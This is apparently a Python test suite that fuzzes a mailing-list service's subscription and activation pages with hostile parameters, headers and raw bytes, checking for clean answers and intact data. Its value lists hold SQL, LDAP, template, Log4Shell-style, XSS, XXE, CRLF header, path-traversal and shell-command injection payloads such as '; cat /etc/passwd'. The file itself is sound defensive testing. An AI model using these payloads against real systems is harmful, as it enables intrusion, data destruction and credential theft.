"""Hostile parameters in every place of every page, on both databases: a clean answer, quiet headers, sound data."""

from __future__ import annotations

import io
import itertools
import re
import socket
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any
from urllib.parse import quote, quote_from_bytes, urlencode

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from page_shop import run_sqlite_shop
from sqlalchemy import inspect, select
from web_server import Site

from audience.accounts import add_account
from audience.list_settings import LANGUAGES
from audience.lists import add_group, add_list
from audience.status_rules import SUBSCRIBE, Channel
from audience.subscriptions import Address, Cause, ProfileChange, change_state
from db.engine import Database
from db.migration import migrate
from db.tables import account, history, mailing_list, metadata, outbox, recipient, subscription
from jobs.storage import Storage
from services.http.application import create_application
from services.http.options import HttpOptions
from services.mailup.page_parameters import MAX_PARAMETERS
from services.mailup.pages import TEXTS

# Stands in every value, and in no answer's headers.
MARK = "zqmark"
CODE = re.compile(r"[0-4]|-1011")
ACTIVATION = re.compile(r"<mailupMessage><mailupBody><ReturnCode>-?[0-9]+</ReturnCode>.*</mailupMessage>", re.DOTALL)

VALUES = [
    # Into SQL.
    "'",
    "' OR '1'='1",
    "1' OR 1=1 --",
    "1; DROP TABLE recipient; --",
    "'; DELETE FROM subscription WHERE ''='",
    "'); SELECT pg_sleep(60); --",
    "1 UNION SELECT password_hash FROM api_user",
    "1 AND randomblob(1000000000)",
    '" OR ""="',
    "$$; DROP TABLE history; $$",
    "\\' OR 1=1 #",
    "%",
    "_%",
    "ada@example.com' --",
    "%(id)s :id ? $1 {0}",
    # Into directories.
    "*)(uid=*))(|(uid=*",
    "ada@example.com)(|(password=*))",
    "\\2a\\28",
    # Into templates and loggers.
    "{{7*7}}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "${jndi:ldap://example.com/a}",
    "%n%n%s%x",
    # Into pages and documents.
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "]]><!ENTITY x SYSTEM 'file:///etc/passwd'>",
    "&lt;&#0;&x;",
    # Into headers and redirects.
    "\r\nSet-Cookie: a=b",
    "a%0d%0aLocation: https://example.com",
    "ada@example.com\r\nBcc: bob@example.com",
    "\nX-Header: 1",
    "\u560d\u560aSet-Cookie: a=b",
    "https://example.com/",
    "//example.com/",
    # Into files and commands.
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "; cat /etc/passwd",
    "| id",
    "`id`",
    # Odd characters.
    "a\0b",
    "\0",
    "\x01\x02\x1b[2J",
    "\x7f\x85\u2028\u2029",
    "\ufeff",
    "\ufffe\uffff",
    "\u202eabc",
    "a\u0300" * 50,
    "\u0130\u0131\u017f\u212a",
    "\U0001f4a9\U0010ffff",
    # Odd numbers.
    "-1",
    "0",
    "-0",
    "+1",
    "01",
    "1e9",
    "0x1",
    "1.0",
    "NaN",
    "2147483648",
    "9223372036854775808",
    "9" * 400,
    "\u0661",
    "\uff11",
    "\u2460",
    "1,-1",
    "1,2,3,,,;;;",
    "1," * 4000,
    ",".join(map(str, range(3000))),
    # Much.
    "x" * 8000,
    "@" * 8000,
    ";" * 8000,
    "campo1;" * 1500,
    "a@" + "b." * 4000 + "c",
    "x" * 500_000,
]

# Bytes that are no text, or text in disguise, in percent form.
ENCODED = [
    "%",
    "%%",
    "%z",
    "%zz",
    "%4",
    "%u0041",
    "%00",
    "%C0%AF",
    "%C0%80",
    "%E0%80%AF",
    "%F0%80%80%AF",
    "%ED%A0%80",
    "%ED%A0%80%ED%B0%80",
    "%F4%90%80%80",
    "%FF%FE",
    "%FE%FF%00a",
    "%81%8D%8F%90%9D",
    "%E8",
    "%C3%A8",
    "%2527",
    "%253Cscript%253E",
    "+%2B+",
    "%0D%0ASet-Cookie:%20a=b",
    "%EF%BB%BF",
]


@dataclass(frozen=True)
class Page:
    """A page and its parameters, with values that it takes."""

    path: str
    sound: dict[str, str]


_PERSON = {"Email": "ada@example.com", "Sms": "", "List": "1", "ListGuid": ""}
_DATA = {"Group": "1", "csvFldNames": "campo1;campo2", "csvFldValues": "Ada;King"}
PAGES = [
    Page(
        "/frontend/xmlSubscribe.aspx",
        {
            **_PERSON,
            **_DATA,
            "Confirm": "1",
            "retCode": "1",
            "Dynsndmail": "shop@example.com",
            "dynsndname": "Shop",
            "ConfirmListID": "",
            "ipAddress": "203.0.113.7",
        },
    ),
    Page("/frontend/Xmlunsubscribe.aspx", _PERSON),
    Page("/frontend/Xmlchksubscriber.aspx", _PERSON),
    Page("/frontend/XmlUpdSubscriber.aspx", {**_PERSON, **_DATA, "Replace": "0"}),
    Page(
        "/frontend/Subscribe.aspx",
        {
            "email": "ada@example.com",
            "list": "1",
            "group": "1",
            "prefix": "",
            "number": "",
            "sms": "",
            "campo1": "Ada",
            "confirm": "1",
            "dynsndmail": "shop@example.com",
            "dynsndname": "Shop",
            "ListGuid": "",
        },
    ),
    Page("/frontend/nl_catalog.aspx", {"ListGuid": ""}),
    Page(
        "/frontend/WSActivation.aspx",
        {"usr": "a1", "pwd": "secret", "nl_url": "m1.example.com", "ws_name": "FrontEnd"},
    ),
]


@dataclass(frozen=True)
class Answer:
    """What the application gave back."""

    status: int
    headers: list[tuple[str, str]]
    body: str


@dataclass(frozen=True)
class Target:
    """The application, called without a network between, beside a second account that must not notice."""

    application: Any
    database: Database
    before: Any

    def send(self, path: str, query: str = "", body: bytes | None = None, headers: Any = ()) -> Answer:
        seen: list[Any] = []
        environ = {
            "REQUEST_METHOD": "GET" if body is None else "POST",
            "SCRIPT_NAME": "",
            "PATH_INFO": path,
            "QUERY_STRING": query,
            "SERVER_NAME": "localhost",
            "SERVER_PORT": "80",
            "SERVER_PROTOCOL": "HTTP/1.1",
            "REMOTE_ADDR": "203.0.113.7",
            "HTTP_HOST": "m1.example.com",
            "CONTENT_TYPE": "application/x-www-form-urlencoded",
            "CONTENT_LENGTH": str(len(body or b"")),
            "wsgi.version": (1, 0),
            "wsgi.url_scheme": "http",
            "wsgi.input": io.BytesIO(body or b""),
            "wsgi.errors": io.StringIO(),
            "wsgi.multithread": True,
            "wsgi.multiprocess": False,
            "wsgi.run_once": False,
            **dict(headers),
        }

        def start(status: str, given: list[tuple[str, str]], _exc_info: Any = None) -> None:
            seen[:] = [int(status[:3]), given]

        chunks = self.application(environ, start)
        text = b"".join(chunks).decode()
        return Answer(seen[0], seen[1], text)

    def check_data(self) -> None:
        """Assert that all tables are there, that nothing odd was stored, and that the second account is as it was."""
        with self.database.read() as connection:
            assert set(metadata.tables) <= set(inspect(connection).get_table_names())
            for email, mobile in connection.execute(select(recipient.c.email, recipient.c.mobile)):
                assert email is None or re.fullmatch(r"[^\s<>()\x00-\x1f]+@[^\s<>()\x00-\x1f]+", email)
                assert mobile is None or re.fullmatch(r"\+[1-9][0-9]{5,14}", mobile, re.ASCII)
            for sender in connection.execute(select(outbox.c.sender_email, outbox.c.sender_name)):
                assert not any(re.search(r"[\x00-\x1f\x7f]", text or "") for text in sender)
        assert _read_bystander(self.database) == self.before


def _read_bystander(database: Database) -> list[Any]:
    with database.read() as connection:
        owner = connection.execute(select(account.c.id).where(account.c.number == 77)).scalar_one()
        people = select(recipient.c.id).where(recipient.c.account_id == owner)
        queries = (
            select(account).where(account.c.id == owner),
            select(mailing_list).where(mailing_list.c.account_id == owner),
            select(recipient).where(recipient.c.account_id == owner),
            select(subscription).where(subscription.c.recipient_id.in_(people)),
            select(history).where(history.c.account_id == owner),
        )
        return [[tuple(row) for row in connection.execute(query)] for query in queries]


def _prepare(database: Database) -> None:
    with database.write() as connection:
        for number in (1, 77):
            owner = add_account(connection, number, password="secret")
            news = add_list(connection, owner.id, "News")
            add_list(connection, owner.id, "Offers")
            add_group(connection, news, "Friends")
            profile = ProfileChange({1: "Bob"}, (1,))
            change_state(connection, news, Address(Channel.EMAIL, "bob@example.com"), SUBSCRIBE, Cause("test"), profile)
        connection.execute(mailing_list.update().values(settings={"public": True, "goodbye_mail": True}))


@pytest.fixture
def target(database: Database, storage: Storage) -> Iterator[Target]:
    _prepare(database)
    yield from _open_target(database, storage)


def _open_target(database: Database, storage: Storage) -> Iterator[Target]:
    application = create_application(database, storage, HttpOptions(form_rate_per_address=0))
    target = Target(application, database, _read_bystander(database))
    yield target
    target.check_data()


def _check(page: Page, answer: Answer) -> None:
    name = page.path.rsplit("/", 1)[1].lower()
    assert answer.status == (302 if name == "subscribe.aspx" and answer.body[:1] == "<" else 200), answer
    headers = dict(answer.headers)
    if answer.status == 302:
        assert re.fullmatch(r"/subscription-received/[0-9a-f-]{36}(\?problem=(address|list))?", headers["Location"])
    elif name == "nl_catalog.aspx":
        assert answer.body.startswith("<!DOCTYPE html>")
    elif name == "wsactivation.aspx":
        assert ACTIVATION.search(answer.body), answer.body
    else:
        assert CODE.fullmatch(answer.body) or answer.body in TEXTS.values(), answer.body
    assert MARK not in answer.body
    for header, value in answer.headers:
        assert MARK not in header + value and "\r" not in value and "\n" not in value
    assert "Set-Cookie" not in headers and headers["Access-Control-Allow-Origin"] == "*"


def _spoil(value: str) -> Iterator[str]:
    yield value
    yield MARK + value
    yield value + MARK


@pytest.mark.parametrize("page", PAGES, ids=lambda page: page.path.rsplit("/", 1)[1])
def test_every_value_in_every_parameter(target: Target, page: Page) -> None:
    for (place, name), (number, value) in itertools.product(enumerate(page.sound), enumerate(VALUES)):
        spoilt = list(_spoil(value))[(place + number) % 3]
        form = urlencode(page.sound | {name: spoilt}, errors="surrogatepass")
        _check(page, _send_either_way(target, page, form, by_get=len(form) <= 8192 and (place + number) % 2 == 0))


@pytest.mark.parametrize("page", PAGES, ids=lambda page: page.path.rsplit("/", 1)[1])
def test_every_encoding_in_every_parameter(target: Target, page: Page) -> None:
    for (place, name), (number, value) in itertools.product(enumerate(page.sound), enumerate(ENCODED)):
        others = urlencode({key: text for key, text in page.sound.items() if key != name})
        form = f"{others}&{name}={value}"
        _check(page, _send_either_way(target, page, form, by_get=(place + number) % 2 == 0))


def _send_either_way(target: Target, page: Page, form: str, *, by_get: bool) -> Answer:
    return target.send(page.path, form) if by_get else target.send(page.path, body=form.encode())


@pytest.mark.parametrize("page", PAGES, ids=lambda page: page.path.rsplit("/", 1)[1])
def test_polluted_and_overlong_requests(target: Target, page: Page) -> None:
    sound = urlencode(page.sound)
    odd = "&".join(f"{name}={MARK}" for name in page.sound)
    for query, body in (
        (f"{sound}&{odd}", None),
        (f"{odd}&{sound}", None),
        (sound, odd),
        (odd, sound),
        ("&".join(f"{name}[]={quote(value)}" for name, value in page.sound.items()), None),
        ("&".join(f"{name.upper()}={quote(value)}&{name.lower()}={MARK}" for name, value in page.sound.items()), None),
        ("&".join(f"{name}%00{MARK}={quote(value)}" for name, value in page.sound.items()), None),
        (f"{sound}&{'a' * 8000}={MARK}", None),
        (f"{sound}&" + "&".join(f"p{number}={MARK}" for number in range(10_000)), None),
        ("", f"{sound}&" + "&".join(f"p{number}={MARK}" for number in range(10_000))),
        ("", "&".join([sound] * 2000)),
        ("", f"{sound}&" * 10 + "&" * (MAX_PARAMETERS * 20)),
        ("&&&===&;;&", "=&=&==&%00=%00"),
        (sound.replace("&", ";"), None),
        ("\xff\xfe" * 100, None),
        (f"{sound}\r\nSet-Cookie: {MARK}=1", None),
    ):
        _check(page, target.send(page.path, query, body.encode("latin-1") if body is not None else None))


@pytest.mark.parametrize("page", PAGES, ids=lambda page: page.path.rsplit("/", 1)[1])
def test_hostile_headers(target: Target, page: Page) -> None:
    sound = urlencode(page.sound)
    for name in ("HTTP_HOST", "HTTP_X_FORWARDED_HOST", "HTTP_X_FORWARDED_FOR", "HTTP_ORIGIN", "HTTP_COOKIE"):
        for value in (MARK, "'", "m1.example.com'; --", f"m1.example.com\r\nX: {MARK}", "[::1]", "[", "\xff", "\0"):
            _check(page, target.send(page.path, sound, headers={name: value}))
    for kind in (
        "",
        MARK,
        "text/xml",
        "multipart/form-data",
        "multipart/form-data; boundary=x",
        "a/b; c=\xff",
        ";",
        "\0",
    ):
        _check(page, target.send(page.path, "", sound.encode(), headers={"CONTENT_TYPE": kind}))
    # No host has such a name (RFC 9112 section 3.2).
    assert target.send(page.path, sound, headers={"HTTP_HOST": MARK * 2000}).status == 400


_NAMES = sorted({name for page in PAGES for name in page.sound})
_PART = st.one_of(
    st.binary(max_size=30).map(quote_from_bytes),
    st.text(st.characters(codec="latin-1", exclude_characters="&#"), max_size=30),
    st.sampled_from([*ENCODED, *(quote(value) for value in VALUES if len(value) < 100)]),
)


@pytest.fixture(scope="module")
def quick_target(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Target]:
    folder = tmp_path_factory.mktemp("hostile")
    database = Database(f"sqlite:///{folder}/listbridge.db")
    migrate(database)
    _prepare(database)
    yield from _open_target(database, Storage(folder, reserve=0))
    database.close()


@settings(max_examples=100, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(
    page=st.sampled_from(PAGES),
    given_pairs=st.lists(st.tuples(st.sampled_from(_NAMES) | _PART, _PART), max_size=8),
    in_body=st.booleans(),
    keep=st.booleans(),
)
def test_any_bytes(
    quick_target: Target, page: Page, given_pairs: list[tuple[str, str]], in_body: bool, keep: bool
) -> None:
    pairs = "&".join(f"{name}={value}" for name, value in given_pairs)
    query = f"{pairs}&{urlencode(page.sound)}" if keep else pairs
    answer = (
        quick_target.send(page.path, "", query.encode("latin-1")) if in_body else quick_target.send(page.path, query)
    )
    _check(page, answer)


def test_raw_bytes_on_the_wire(tmp_path: Path) -> None:
    """Bytes that no client library would send in a request line: an answer or a closed connection, and life goes on."""
    with run_sqlite_shop(tmp_path) as shop:
        for path in ("xmlSubscribe", "Subscribe", "nl_catalog", "WSActivation"):
            for junk in (b"\xff\xfe", b"\x01\x7f", b"%\xc3%28", "è".encode()):
                answer = _send_raw(shop.site, b"GET /frontend/%s.aspx?Email=%s&List=1 HTTP/1.0" % (path.encode(), junk))
                assert not answer.startswith(b"HTTP/1.1 5") and not answer.startswith(b"HTTP/1.0 5")
        assert shop.call("xmlChkSubscriber", Email="ada@example.com", List=1) == "1"


def _send_raw(site: Site, line: bytes) -> bytes:
    with socket.create_connection((site.host, site.port), timeout=60) as connection:
        connection.sendall(line + b"\r\nHost: localhost\r\n\r\n")
        parts = []
        while part := connection.recv(65536):
            parts.append(part)
        return b"".join(parts)


@pytest.mark.parametrize("language", LANGUAGES)
def test_texts_of_lists_are_escaped(target: Target, language: str) -> None:
    hostile = "<script>{{7*7}}</script>'\""
    with target.database.write() as connection:
        stored = {"public": True, "description": hostile, "color": hostile, "language": language}
        connection.execute(mailing_list.update().where(mailing_list.c.account_id == 1).values(settings=stored))
    body = target.send("/frontend/nl_catalog.aspx").body
    assert "<script" not in body and "{{7*7}}&lt;/script&gt;" in body
